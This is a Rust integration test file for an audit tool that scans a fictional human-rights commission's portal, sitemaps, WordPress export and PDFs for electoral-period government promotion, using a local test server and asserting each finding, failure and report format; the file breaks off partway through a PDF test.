//! Tests of `blindaje audit` through the real binary: a small fictional portal (tests/fixtures/portal/site)
//! served by an HTTP server on 127.0.0.1 started here, with a route that always answers 500 and one that
//! never answers; the same site as a folder of saved pages; a WordPress export; a sitemap index. Every
//! finding is asserted by category, element and excerpt, and the transparency directory, which names the
//! officials, is asserted clean.
//!
//! The fixture admin pack (rules.json) carries its own rules for the phrases asserted, so these tests do not
//! depend on how the default pack evolves; `default_pack_alone_flags_the_unambiguous_cases` runs without it.

use serde_json::Value;
use std::io::{BufRead, BufReader, Write};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

fn fixtures() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/portal")
}

fn site_dir() -> PathBuf {
    fixtures().join("site")
}

/// The fixture site over HTTP. `/servicios/quejas-en-linea` always answers 500, `/expedientes/consulta`
/// never answers, `{{BASE}}` in XML and robots.txt becomes the server's address.
struct Server {
    base: String,
    errors: Arc<AtomicUsize>,
    agents: Arc<Mutex<Vec<String>>>,
    paths: Arc<Mutex<Vec<String>>>,
}

impl Server {
    fn start() -> Server {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let base = format!("http://{}", listener.local_addr().unwrap());
        let server =
            Server { base: base.clone(), errors: Arc::default(), agents: Arc::default(), paths: Arc::default() };
        let (errors, agents, paths) = (server.errors.clone(), server.agents.clone(), server.paths.clone());
        std::thread::spawn(move || {
            for stream in listener.incoming().flatten() {
                let (base, errors, agents, paths) = (base.clone(), errors.clone(), agents.clone(), paths.clone());
                std::thread::spawn(move || serve(stream, &base, &errors, &agents, &paths));
            }
        });
        server
    }
}

fn serve(
    mut stream: TcpStream,
    base: &str,
    errors: &AtomicUsize,
    agents: &Mutex<Vec<String>>,
    paths: &Mutex<Vec<String>>,
) {
    let mut reader = BufReader::new(stream.try_clone().unwrap());
    let mut request_line = String::new();
    if reader.read_line(&mut request_line).is_err() {
        return;
    }
    loop {
        let mut line = String::new();
        if reader.read_line(&mut line).unwrap_or(0) == 0 || line.trim().is_empty() {
            break;
        }
        if let Some((k, v)) = line.split_once(':') {
            if k.eq_ignore_ascii_case("user-agent") {
                agents.lock().unwrap().push(v.trim().to_string());
            }
        }
    }
    let path = request_line.split_whitespace().nth(1).unwrap_or("/").to_string();
    paths.lock().unwrap().push(path.clone());
    let (status, kind, body): (&str, &str, Vec<u8>) = match path.as_str() {
        "/servicios/quejas-en-linea" => {
            errors.fetch_add(1, Ordering::SeqCst);
            ("500 Internal Server Error", "text/html", b"<h1>Error</h1>".to_vec())
        }
        "/expedientes/consulta" => {
            // Hang: keep the connection open without answering.
            std::thread::sleep(Duration::from_secs(60));
            return;
        }
        // The site's PDFs, written here: the annual report is clean, the brigades' report is the bulletin.
        "/documentos/informe-anual-2026.pdf" => (
            "200 OK",
            "application/pdf",
            lopdf_pdf(
                "Informe anual 2026",
                &[paragraph(50.0, 780.0, &["Informe anual de actividades 2026."])],
                "WinAnsiEncoding",
            ),
        ),
        "/documentos/informe-brigadas-2027.pdf" => ("200 OK", "application/pdf", bulletin()),
        _ => {
            let mut file = site_dir().join(path.trim_start_matches('/'));
            if path.ends_with('/') {
                file = file.join("index.html");
            }
            match std::fs::read(&file) {
                Ok(bytes) => {
                    let ext = file.extension().and_then(|e| e.to_str()).unwrap_or("");
                    let kind = match ext {
                        "html" => "text/html; charset=utf-8",
                        "xml" => "application/xml",
                        _ => "text/plain; charset=utf-8",
                    };
                    let bytes = if matches!(ext, "xml" | "txt") {
                        String::from_utf8(bytes).unwrap().replace("{{BASE}}", base).into_bytes()
                    } else {
                        bytes
                    };
                    ("200 OK", kind, bytes)
                }
                Err(_) => ("404 Not Found", "text/html", b"<h1>No existe</h1>".to_vec()),
            }
        }
    };
    let head = format!(
        "HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    );
    let _ = stream.write_all(head.as_bytes());
    let _ = stream.write_all(&body);
}

struct Run {
    code: i32,
    stdout: String,
    stderr: String,
}

impl Run {
    fn json(&self) -> Value {
        serde_json::from_str(&self.stdout)
            .unwrap_or_else(|e| panic!("not JSON ({e}): {}\nstderr: {}", self.stdout, self.stderr))
    }
}

fn blindaje(args: &[&str]) -> Run {
    let out = Command::new(env!("CARGO_BIN_EXE_blindaje")).args(args).output().unwrap();
    Run {
        code: out.status.code().unwrap_or(-1),
        stdout: String::from_utf8(out.stdout).unwrap(),
        stderr: String::from_utf8(out.stderr).unwrap(),
    }
}

/// `blindaje audit` with the fixture policy and pack, during the fictional campaign, as JSON.
fn audit(sources: &[&str], extra: &[&str]) -> Run {
    let policy = fixtures().join("policy.json");
    let rules = fixtures().join("rules.json");
    let mut args = vec![
        "audit",
        "--policy",
        policy.to_str().unwrap(),
        "--rules",
        rules.to_str().unwrap(),
        "--date",
        "2027-04-20",
        "--format",
        "json",
        "--timeout",
        "1",
        "--retries",
        "1",
    ];
    args.extend_from_slice(extra);
    args.extend_from_slice(sources);
    blindaje(&args)
}

fn pages(report: &Value) -> &Vec<Value> {
    report["pages"].as_array().unwrap()
}

fn page<'a>(report: &'a Value, url_end: &str) -> &'a Value {
    pages(report).iter().find(|p| p["url"].as_str().unwrap().ends_with(url_end)).unwrap_or_else(|| {
        let urls: Vec<&str> = pages(report).iter().map(|p| p["url"].as_str().unwrap()).collect();
        panic!("no audited page ends with {url_end}: {urls:?}")
    })
}

fn norm(s: &str) -> String {
    s.to_lowercase()
}

/// Whether `findings` hold one of `category` in `element` (any when `None`) whose excerpt contains `needle`
/// (case aside) and whose context is non-empty when the block has more text.
fn has(findings: &Value, category: &str, element: Option<&str>, needle: &str) -> bool {
    findings.as_array().unwrap().iter().any(|f| {
        f["category"] == category
            && element.is_none_or(|e| f["element"] == e)
            && norm(f["excerpt"].as_str().unwrap()).contains(&norm(needle))
            && f["message"].as_str().is_some_and(|m| !m.is_empty())
            && f["guideline"].as_str().is_some_and(|g| !g.is_empty())
    })
}

fn assert_has(findings: &Value, category: &str, element: Option<&str>, needle: &str) {
    assert!(
        has(findings, category, element, needle),
        "no {category} finding «{needle}» in {element:?}: {:#}",
        findings
    );
}

fn urls(list: &Value) -> Vec<String> {
    list.as_array().unwrap().iter().map(|p| p["url"].as_str().unwrap().to_string()).collect()
}

fn reason<'a>(list: &'a Value, url_end: &str) -> &'a str {
    list.as_array()
        .unwrap()
        .iter()
        .find(|p| p["url"].as_str().unwrap().ends_with(url_end))
        .unwrap_or_else(|| panic!("{url_end} not listed in {list:#}"))["reason"]
        .as_str()
        .unwrap()
}

/// The findings the fixture site must produce, whatever way it is read.
fn assert_site_findings(r: &Value) {
    let oficina = &page(r, "noticias/oficina-regional.html")["findings"];
    assert_has(oficina, "achievements", Some("title"), "Inauguramos");
    assert_has(oficina, "achievements", Some("heading"), "Inauguramos");
    assert_has(oficina, "achievements", Some("text"), "Gracias al apoyo del Gobernador");
    assert_has(oficina, "achievements", Some("text"), "logramos");
    assert_has(oficina, "achievements", Some("text"), "40% más");

    let jornada = &page(r, "noticias/jornada-capacitacion.html")["findings"];
    assert_has(jornada, "personalized", Some("text"), "Ana Laura Pérez Gómez");
    assert_has(jornada, "personalized", Some("text"), "Jorge Luis Ramírez Torres");

    let brigada = &page(r, "noticias/brigada.html")["findings"];
    assert_has(brigada, "electoral", Some("image-alt"), "YoConMorena");
    assert_has(brigada, "electoral", Some("image-alt"), "vota por");
    // Context around the excerpt, for people.
    let f = brigada.as_array().unwrap().iter().find(|f| f["excerpt"] == "vota por").unwrap();
    assert!(f["before"].as_str().unwrap().ends_with("#YoConMorena; "));
    assert_eq!(f["after"], " Morena este 6 de junio");
    assert_eq!(f["severity"], "high");

    // Broken HTML still yields its text (the unclosed <h1> holds the paragraph, as in a browser).
    let roto = &page(r, "roto.html")["findings"];
    assert_has(roto, "achievements", Some("heading"), "Compromiso cumplido");
    assert_has(roto, "achievements", None, "logramos");

    // The transparency directory names the officials: not promotion.
    let directorio = page(r, "transparencia/directorio.html");
    assert_eq!(directorio["status"], "clean", "{directorio:#}");
    assert_eq!(directorio["findings"], serde_json::json!([]));
    let aviso = page(r, "aviso-de-privacidad.html");
    assert_eq!(aviso["status"], "clean", "{aviso:#}");

    // The footer's slogan is on every page: reported once, as a shared block, on no page.
    let shared = r["shared"].as_array().unwrap();
    let lema = shared
        .iter()
        .find(|b| has(&b["findings"], "electoral", None, "Sigamos haciendo historia"))
        .unwrap_or_else(|| panic!("no shared block with the slogan: {shared:#?}"));
    assert_eq!(lema["region"], "chrome");
    assert_eq!(lema["pageCount"].as_u64().unwrap() as usize, pages(r).len());
    for p in pages(r) {
        assert!(!has(&p["findings"], "electoral", None, "Sigamos haciendo historia"), "{}", p["url"]);
    }
    // Text inside <script> is not page text.
    assert!(!has(&page(r, "directorio.html")["findings"], "electoral", None, "vota"));
    // Pages sorted by severity: high first.
    assert_eq!(pages(r)[0]["findings"][0]["severity"], "high");
    assert!(r["summary"]["byCategory"]["achievements"].as_u64().unwrap() >= 7);
}

#[test]
fn crawling_the_site_reports_each_finding_failure_and_pdf() {
    let server = Server::start();
    let start = Instant::now();
    let run = audit(&[&format!("{}/", server.base)], &["--concurrency", "3"]);
    let elapsed = start.elapsed();
    assert_eq!(run.code, 1, "{}", run.stderr);
    let r = run.json();
    assert_eq!(r["date"], "2027-04-20");
    assert_eq!(r["phase"], "campaign");
    assert!(r["rules"]["adminPack"].as_str().unwrap().starts_with("portal-pruebas@"));
    let mut audited = urls(&r["pages"]);
    audited.sort();
    let expected: Vec<String> = [
        "/",
        "/aviso-de-privacidad.html",
        "/noticias/",
        "/noticias/brigada.html",
        "/noticias/jornada-capacitacion.html",
        "/noticias/oficina-regional.html",
        "/roto.html",
        "/transparencia/directorio.html",
    ]
    .iter()
    .map(|p| format!("{}{p}", server.base))
    .collect();
    assert_eq!(audited, expected);
    assert_site_findings(&r);
    assert_eq!(page(&r, "/noticias/")["status"], "clean");
    assert_eq!(page(&r, "brigada.html")["origin"], "crawl");

    // Failures are listed with their reason and the audit went on.
    let failed = &r["failed"];
    let quejas = reason(failed, "/servicios/quejas-en-linea");
    assert!(quejas.contains("HTTP 500") && quejas.contains("2 intentos"), "{quejas}");
    assert_eq!(server.errors.load(Ordering::SeqCst), 2, "one retry after a 500");
    let lento = reason(failed, "/expedientes/consulta");
    assert!(lento.contains("tiempo de espera agotado"), "{lento}");
    assert!(reason(failed, "/contacto.html").contains("HTTP 404"));
    assert_eq!(r["summary"]["failed"], 3);
    assert!(elapsed < Duration::from_secs(30), "took {elapsed:?}");

    // robots.txt is respected; other sites are never fetched.
    assert!(reason(&r["skipped"], "/privado/borrador.html").contains("robots.txt"));
    let fetched = server.paths.lock().unwrap().clone();
    assert!(!fetched.iter().any(|p| p.starts_with("/privado/")), "{fetched:?}");
    assert!(fetched.contains(&"/robots.txt".to_string()));
    assert!(!serde_json::to_string(&r).unwrap().contains("cndh.org.mx/\""));

    // The site's PDFs are fetched once each and read, with the pages linking them.
    assert_eq!(fetched.iter().filter(|p| p.ends_with(".pdf")).count(), 2, "{fetched:?}");
    let pdfs = r["pdfs"].as_array().unwrap();
    let anual =
        pdfs.iter().find(|p| p["url"].as_str().unwrap().ends_with("/documentos/informe-anual-2026.pdf")).unwrap();
    assert_eq!(anual["pages"].as_array().unwrap().len(), 2);
    assert_eq!(anual["audited"], true);
    assert_eq!(document(&r, "informe-anual-2026.pdf")["status"], "clean");
    let brigadas = document(&r, "informe-brigadas-2027.pdf");
    assert_eq!(brigadas["origin"], "crawl");
    assert_has(&brigadas["findings"], "achievements", Some("text"), "logramos");
    assert_eq!(brigadas["linkedFrom"], serde_json::json!([format!("{}/noticias/brigada.html", server.base)]));

    // A clear user agent on every request.
    let agents = server.agents.lock().unwrap();
    assert!(!agents.is_empty());
    for a in agents.iter() {
        assert!(a.starts_with("BlindajeElectoral-audit/"), "{a}");
        assert!(a.contains("Comision Estatal de Derechos Humanos"), "{a}");
    }
    // Progress on stderr.
    assert!(run.stderr.contains("páginas"), "{}", run.stderr);
}

#[test]
fn ignore_robots_and_the_page_cap() {
    let server = Server::start();
    let run = audit(&[&format!("{}/", server.base)], &["--ignore-robots"]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let r = run.json();
    let borrador = &page(&r, "/privado/borrador.html")["findings"];
    assert_has(borrador, "achievements", Some("text"), "compromiso cumplido");
    assert!(server.paths.lock().unwrap().iter().all(|p| p != "/robots.txt"));

    let run = audit(&[&format!("{}/", server.base)], &["--max-pages", "2"]);
    let r = run.json();
    let s = &r["summary"];
    let read = s["pages"].as_u64().unwrap() + s["failed"].as_u64().unwrap();
    assert!(read <= 2, "{s:#}");
    assert!(s["notAudited"].as_u64().unwrap() > 0, "{s:#}");
    assert_eq!(s["maxPages"], 2);
}

#[test]
fn sitemap_index_is_followed_without_crawling() {
    let server = Server::start();
    let run = audit(&[&format!("{}/sitemap_index.xml", server.base)], &[]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let r = run.json();
    let mut audited = urls(&r["pages"]);
    audited.sort();
    let expected: Vec<String> = [
        "/",
        "/noticias/",
        "/noticias/brigada.html",
        "/noticias/jornada-capacitacion.html",
        "/noticias/oficina-regional.html",
        "/roto.html",
        "/transparencia/directorio.html",
    ]
    .iter()
    .map(|p| format!("{}{p}", server.base))
    .collect();
    // Not in any sitemap, so not audited: aviso-de-privacidad.html (links are not followed).
    assert_eq!(audited, expected);
    assert_eq!(page(&r, "brigada.html")["origin"], "sitemap");
    assert_has(&page(&r, "brigada.html")["findings"], "electoral", Some("image-alt"), "vota por");
    assert_eq!(page(&r, "directorio.html")["status"], "clean");
    // The missing sitemap and the 500 page fail; the robots-excluded page is skipped; the other site's
    // URL is dropped.
    let missing = reason(&r["failed"], "/sitemap-eventos.xml");
    assert!(missing.starts_with("sitemap: HTTP 404"), "{missing}");
    assert!(reason(&r["failed"], "/servicios/quejas-en-linea").contains("HTTP 500"));
    assert!(reason(&r["skipped"], "/privado/borrador.html").contains("robots.txt"));
    assert!(!serde_json::to_string(&r).unwrap().contains("otro-sitio.example"));
    let fetched = server.paths.lock().unwrap().clone();
    assert!(!fetched.contains(&"/expedientes/consulta".to_string()));
}

#[test]
fn sitemap_file_lists_pages_to_fetch() {
    let server = Server::start();
    let dir = std::env::temp_dir().join(format!("blindaje-audit-sitemap-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let file = dir.join("sitemap.xml");
    let text =
        std::fs::read_to_string(site_dir().join("sitemap-noticias.xml")).unwrap().replace("{{BASE}}", &server.base);
    std::fs::write(&file, text).unwrap();
    let run = audit(&[file.to_str().unwrap()], &[]);
    std::fs::remove_dir_all(&dir).ok();
    assert_eq!(run.code, 1, "{}", run.stderr);
    let r = run.json();
    assert_eq!(r["summary"]["pages"], 4);
    assert_has(
        &page(&r, "jornada-capacitacion.html")["findings"],
        "personalized",
        Some("text"),
        "Ana Laura Pérez Gómez",
    );
}

#[test]
fn folder_of_saved_pages() {
    let dir = site_dir();
    let run = audit(&[dir.to_str().unwrap()], &[]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let r = run.json();
    assert_eq!(r["summary"]["pages"], 9, "every .html file");
    assert_site_findings(&r);
    assert_eq!(page(&r, "index.html")["origin"], "file");
    assert!(page(&r, "brigada.html")["href"].as_str().unwrap().starts_with("file://"));
    // Saved copies have no robots.txt: the draft is read.
    assert_has(&page(&r, "borrador.html")["findings"], "achievements", None, "compromiso cumplido");
    assert!(r["pdfs"]
        .as_array()
        .unwrap()
        .iter()
        .any(|p| p["url"].as_str().unwrap().ends_with("informe-anual-2026.pdf")));
    assert_eq!(r["failed"], serde_json::json!([]));
}

#[test]
fn wordpress_export() {
    let wxr = fixtures().join("wordpress.xml");
    let run = audit(&[wxr.to_str().unwrap()], &[]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let r = run.json();
    let mut audited = urls(&r["pages"]);
    audited.sort();
    assert_eq!(
        audited,
        vec![
            "https://cedh.example/2027/01/15/conciliaciones-2026/",
            "https://cedh.example/2027/02/20/jornada-ninez/",
            "https://cedh.example/servicios/queja/",
            "https://cedh.example/transparencia/directorio/",
        ]
    );
    let conciliaciones = page(&r, "conciliaciones-2026/");
    assert_eq!(conciliaciones["origin"], "wxr");
    assert_eq!(conciliaciones["title"], "Logramos 40% más conciliaciones en 2026");
    let f = &conciliaciones["findings"];
    assert_has(f, "achievements", Some("title"), "Logramos");
    assert_has(f, "achievements", Some("title"), "40% más");
    assert_has(f, "personalized", Some("text"), "Ana Laura Pérez Gómez");
    let f = &page(&r, "jornada-ninez/")["findings"];
    assert_has(f, "personalized", Some("text"), "Jorge Luis Ramírez Torres");
    assert_has(f, "electoral", Some("image-alt"), "Sigamos haciendo historia");
    assert_eq!(page(&r, "transparencia/directorio/")["status"], "clean");
    let queja = page(&r, "servicios/queja/");
    assert_eq!(queja["status"], "clean");
    assert_eq!(queja["pdfs"], serde_json::json!(["https://cedh.example/wp-content/uploads/formato-queja.pdf"]));
    // The draft is left out (and said so); media and menu items are not pages.
    assert!(reason(&r["skipped"], "?p=105").contains("draft"));
    assert_eq!(r["skipped"].as_array().unwrap().len(), 1);
    // The signature repeated on every item is one shared block, without findings.
    assert!(r["summary"]["sharedBlocks"].as_u64().unwrap() >= 1);
    assert_eq!(r["summary"]["sharedBlocksWithFindings"], 0);
}

#[test]
fn text_csv_and_html_reports() {
    let dir = site_dir();
    let dir = dir.to_str().unwrap();
    let policy = fixtures().join("policy.json");
    let rules = fixtures().join("rules.json");
    let common = [
        "audit",
        dir,
        "--policy",
        policy.to_str().unwrap(),
        "--rules",
        rules.to_str().unwrap(),
        "--date",
        "2027-04-20",
    ];

    let text = blindaje(&common);
    assert_eq!(text.code, 1, "{}", text.stderr);
    for needle in [
        "Auditoría del portal",
        "Fecha de referencia: 2027-04-20 (campañas)",
        "== Páginas con avisos",
        "== Bloques compartidos con avisos (1)",
        "En 9 páginas",
        "⟦vota por⟧ Morena este 6 de junio",
        "texto alternativo de imagen",
        "Lineamiento: «",
        "== Documentos PDF para revisión manual",
        "== Páginas sin avisos propios",
        "directorio.html",
    ] {
        assert!(text.stdout.contains(needle), "{needle}\n{}", text.stdout);
    }
    // The most severe pages come first: the first page listed has a high warning.
    let first = text.stdout.find("\n1. ").unwrap();
    let second = text.stdout[first..].find("\n2. ").unwrap() + first;
    assert!(text.stdout[first..second].contains("   - ALTA · "), "{}", &text.stdout[first..second]);
    assert!(text.stdout.contains(&format!(". {dir}/noticias/brigada.html\n")));

    let csv = blindaje(&[&common[..], &["--format", "csv"]].concat());
    let mut reader = csv::Reader::from_reader(csv.stdout.as_bytes());
    // The first 14 columns as they always were; the PDF and social columns come after them.
    assert_eq!(
        reader.headers().unwrap().iter().take(14).collect::<Vec<_>>(),
        vec![
            "scope",
            "severity",
            "category",
            "rule",
            "url",
            "title",
            "pages",
            "element",
            "region",
            "excerpt",
            "context",
            "message",
            "guideline",
            "suggestion"
        ]
    );
    assert_eq!(
        reader.headers().unwrap().iter().skip(14).collect::<Vec<_>>(),
        vec!["pdf_page", "account", "posted", "post_id"]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert!(rows.iter().any(|r| &r[0] == "page"
        && r[4].ends_with("brigada.html")
        && &r[2] == "electoral"
        && &r[7] == "image-alt"
        && &r[9] == "vota por"
        && r[10].contains("⟦vota por⟧ Morena")));
    assert!(rows.iter().any(|r| &r[0] == "shared" && &r[6] == "9" && r[9].contains("Sigamos")));
    assert!(rows.iter().any(|r| &r[0] == "clean" && r[4].ends_with("directorio.html")));
    assert!(rows.iter().any(|r| &r[0] == "pdf" && r[4].ends_with("informe-anual-2026.pdf")));

    // HTML to a file, the format taken from the extension.
    let out = std::env::temp_dir().join(format!("blindaje-audit-{}.html", std::process::id()));
    let html = blindaje(&[&common[..], &["--output", out.to_str().unwrap()]].concat());
    assert_eq!(html.code, 1, "{}", html.stderr);
    assert!(html.stdout.is_empty());
    assert!(html.stderr.contains("informe en"), "{}", html.stderr);
    let page = std::fs::read_to_string(&out).unwrap();
    std::fs::remove_file(&out).ok();
    assert!(page.starts_with("<!DOCTYPE html>"));
    assert!(page.contains("<html lang=\"es\">"));
    // Self-contained: no external scripts, styles, images or fonts.
    for external in ["<script src", "<link", "<img", "@import", "url("] {
        assert!(!page.contains(external), "{external}");
    }
    assert!(page.contains("<style>") && page.contains("<script>"));
    for needle in [
        "name=\"categoria\" value=\"electoral\"",
        "name=\"categoria\" value=\"achievements\"",
        "name=\"gravedad\" value=\"high\"",
        "data-category=\"personalized\"",
        "<mark>vota por</mark> Morena",
        "Bloques compartidos con avisos",
        "Páginas sin avisos propios",
        "Revisada",
        "target=\"_blank\"",
        "href=\"file://",
    ] {
        assert!(page.contains(needle), "{needle}");
    }
    // Page text is escaped.
    assert!(!page.contains("<b>logramos"));
}

#[test]
fn exit_codes() {
    let policy = fixtures().join("policy.json");
    let rules = fixtures().join("rules.json");
    let directorio = site_dir().join("transparencia/directorio.html");
    // A clean page (the directory without the footer's slogan): 0.
    let dir = std::env::temp_dir().join(format!("blindaje-audit-clean-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let clean = dir.join("directorio.html");
    let html = std::fs::read_to_string(&directorio).unwrap();
    std::fs::write(&clean, html.replace("Sigamos haciendo historia", "Trabajamos")).unwrap();
    let run = audit(&[clean.to_str().unwrap()], &[]);
    std::fs::remove_dir_all(&dir).ok();
    assert_eq!(run.code, 0, "{}{}", run.stdout, run.stderr);
    assert_eq!(run.json()["summary"]["cleanPages"], 1);
    // A missing source, a bad date, a bad option: 2.
    assert_eq!(audit(&["/no/such/folder"], &[]).code, 2);
    let bad_date = blindaje(&["audit", "--date", "2027-13-01", directorio.to_str().unwrap()]);
    assert_eq!(bad_date.code, 2);
    assert_eq!(blindaje(&["audit"]).code, 2);
    assert_eq!(audit(&[directorio.to_str().unwrap()], &["--concurrency", "0"]).code, 2);
    let run = audit(&[rules.to_str().unwrap()], &[]);
    assert_eq!(run.code, 2);
    assert!(run.stderr.contains("not a folder"), "{}", run.stderr);
    // Nothing could be read: 2, with the reason in the report.
    let closed = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}/", closed.local_addr().unwrap());
    drop(closed);
    let run = audit(&[&url], &[]);
    assert_eq!(run.code, 2, "{}", run.stderr);
    assert_eq!(run.json()["summary"]["pages"], 0);
    let _ = policy;
}

#[test]
fn default_date_is_the_next_campaign_start() {
    let dir = std::env::temp_dir().join(format!("blindaje-audit-policy-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let policy = dir.join("policy.json");
    std::fs::write(
        &policy,
        r#"{"officials": ["Ana Laura Pérez Gómez"], "electoralPeriods": [
            {"label": "Campañas 2099", "phase": "campaign", "start": "2099-04-01", "end": "2099-05-30"},
            {"label": "Jornada 2099", "phase": "election-day", "start": "2099-06-06", "end": "2099-06-06"}]}"#,
    )
    .unwrap();
    let page = site_dir().join("noticias/oficina-regional.html");
    let rules = fixtures().join("rules.json");
    let run = blindaje(&[
        "audit",
        "--format",
        "json",
        "--policy",
        policy.to_str().unwrap(),
        "--rules",
        rules.to_str().unwrap(),
        page.to_str().unwrap(),
    ]);
    std::fs::remove_dir_all(&dir).ok();
    let r = run.json();
    assert_eq!(r["date"], "2099-04-01");
    assert_eq!(r["phase"], "campaign");
    // Achievements warn in campaigns.
    assert_eq!(run.code, 1);
    assert!(r["summary"]["medium"].as_u64().unwrap() > 0);
}

#[test]
fn default_pack_alone_flags_the_unambiguous_cases() {
    let policy = fixtures().join("policy.json");
    let dir = site_dir();
    let run = blindaje(&[
        "audit",
        "--format",
        "json",
        "--policy",
        policy.to_str().unwrap(),
        "--date",
        "2027-04-20",
        dir.to_str().unwrap(),
    ]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let r = run.json();
    assert_eq!(r["rules"]["adminPack"], Value::Null);
    assert_has(&page(&r, "brigada.html")["findings"], "electoral", Some("image-alt"), "vota por");
    assert_has(
        &page(&r, "jornada-capacitacion.html")["findings"],
        "personalized",
        Some("text"),
        "Ana Laura Pérez Gómez",
    );
    assert_has(&page(&r, "oficina-regional.html")["findings"], "achievements", Some("text"), "logramos");
    assert_eq!(page(&r, "directorio.html")["status"], "clean");
    assert_eq!(page(&r, "aviso-de-privacidad.html")["status"], "clean");
}

// ---------------------------------------------------------------------------------------------------------
// PDFs, social archives and the audit's security (issues 20 and 17). PDFs are written here, by lopdf's
// writer and by LibreOffice; archives are written here as the platforms lay them out.

/// A temporary folder removed on drop.
struct Temp(PathBuf);

impl Temp {
    fn new(name: &str) -> Temp {
        let dir = std::env::temp_dir().join(format!("blindaje-audit-{name}-{}", std::process::id()));
        std::fs::remove_dir_all(&dir).ok();
        std::fs::create_dir_all(&dir).unwrap();
        Temp(dir)
    }

    fn write(&self, rel: &str, bytes: impl AsRef<[u8]>) -> PathBuf {
        let path = self.0.join(rel);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, bytes).unwrap();
        path
    }

    fn path(&self, rel: &str) -> String {
        self.0.join(rel).to_str().unwrap().to_string()
    }
}

impl Drop for Temp {
    fn drop(&mut self) {
        std::fs::remove_dir_all(&self.0).ok();
    }
}

/// One line of text placed on a PDF page: x, y (points from the bottom left) and the text.
type Line<'a> = (f32, f32, &'a str);

/// A PDF written with lopdf: Helvetica in WinAnsiEncoding (so accented Spanish is real PDF text), one
/// content stream per page, lines drawn in the order given (a two-column page gives column one first, as
/// producers do).
fn lopdf_pdf(title: &str, pages: &[Vec<Line<'_>>], font_encoding: &str) -> Vec<u8> {
    use lopdf::content::{Content, Operation};
    use lopdf::{dictionary, Document, Object, Stream, StringFormat};
    let mut doc = Document::with_version("1.5");
    let pages_id = doc.new_object_id();
    let font = doc.add_object(dictionary! {
        "Type" => "Font", "Subtype" => "Type1", "BaseFont" => "Helvetica", "Encoding" => font_encoding,
    });
    let resources = doc.add_object(dictionary! { "Font" => dictionary! { "F1" => font } });
    let mut kids = Vec::new();
    for lines in pages {
        let mut ops = vec![Operation::new("BT", vec![]), Operation::new("Tf", vec!["F1".into(), 11.into()])];
        for (x, y, text) in lines {
            let (bytes, _, _) = encoding_rs::WINDOWS_1252.encode(text);
            ops.push(Operation::new("Tm", vec![1.into(), 0.into(), 0.into(), 1.into(), (*x).into(), (*y).into()]));
            ops.push(Operation::new("Tj", vec![Object::String(bytes.into_owned(), StringFormat::Literal)]));
        }
        ops.push(Operation::new("ET", vec![]));
        let content = doc.add_object(Stream::new(dictionary! {}, Content { operations: ops }.encode().unwrap()));
        kids.push(Object::Reference(doc.add_object(dictionary! {
            "Type" => "Page", "Parent" => pages_id, "Contents" => content,
        })));
    }
    let count = kids.len() as i64;
    doc.objects.insert(
        pages_id,
        Object::Dictionary(dictionary! {
            "Type" => "Pages", "Kids" => kids, "Count" => count, "Resources" => resources,
            "MediaBox" => vec![0.into(), 0.into(), 595.into(), 842.into()],
        }),
    );
    let catalog = doc.add_object(dictionary! { "Type" => "Catalog", "Pages" => pages_id });
    let info = doc.add_object(dictionary! { "Title" => lopdf::text_string(title) });
    doc.trailer.set("Root", catalog);
    doc.trailer.set("Info", info);
    let mut out = Vec::new();
    doc.save_to(&mut out).unwrap();
    out
}

/// Lines of a paragraph from (x, y) down, 13 points apart.
fn paragraph<'a>(x: f32, y: f32, lines: &[&'a str]) -> Vec<Line<'a>> {
    lines.iter().enumerate().map(|(i, l)| (x, y - 13.0 * i as f32, *l)).collect()
}

/// The bulletin: page 1 neutral, page 2 in two columns with the achievement in the second column.
fn bulletin() -> Vec<u8> {
    let page1 = [
        paragraph(50.0, 780.0, &["Boletín de la Comisión Estatal de Derechos Humanos"]),
        paragraph(
            50.0,
            740.0,
            &["La atención de quejas continúa de 9 a 17 horas en", "todas las oficinas; el trámite es gratuito."],
        ),
    ]
    .concat();
    let page2 = [
        paragraph(
            50.0,
            780.0,
            &["Columna uno: la Visitaduría acudió a la", "comunidad para brindar orientación jurídica."],
        ),
        paragraph(50.0, 730.0, &["Se impartió el taller sobre derechos de las", "personas mayores en la región."]),
        paragraph(
            310.0,
            780.0,
            &["Columna dos: gracias al apoyo del Gobernador", "logramos 40% más conciliaciones en la región."],
        ),
        paragraph(310.0, 730.0, &["La Presidenta Ana Laura Pérez Gómez encabezó", "la ceremonia de inauguración."]),
    ]
    .concat();
    lopdf_pdf("Boletín número 12", &[page1, page2], "WinAnsiEncoding")
}

fn document<'a>(r: &'a Value, url_end: &str) -> &'a Value {
    let docs = r["documents"].as_array().unwrap();
    docs.iter()
        .find(|d| d["url"].as_str().unwrap().ends_with(url_end))
        .unwrap_or_else(|| panic!("no document {url_end}: {docs:#?}"))
}

#[test]
fn pdf_text_is_judged_page_by_page_with_the_page_cited() {
    let dir = Temp::new("pdf");
    dir.write("boletin-12.pdf", bulletin());
    let clean =
        lopdf_pdf("Aviso", &[paragraph(50.0, 780.0, &["Horario de atención: de 9 a 17 horas."])], "WinAnsiEncoding");
    dir.write("docs/aviso.pdf", clean);
    dir.write(
        "index.html",
        "<html><head><title>Inicio</title></head><body><p><a href=\"boletin-12.pdf\">Boletín</a></p></body></html>",
    );
    let run = audit(&[&dir.path("")], &[]);
    assert_eq!(run.code, 1, "{}", run.stderr);
    let r = run.json();
    assert_eq!(r["summary"]["documents"], 2, "{:#}", r["summary"]);
    assert_eq!(r["summary"]["pdfPages"], 3);
    let b = document(&r, "boletin-12.pdf");
    assert_eq!(b["title"], "Boletín número 12");
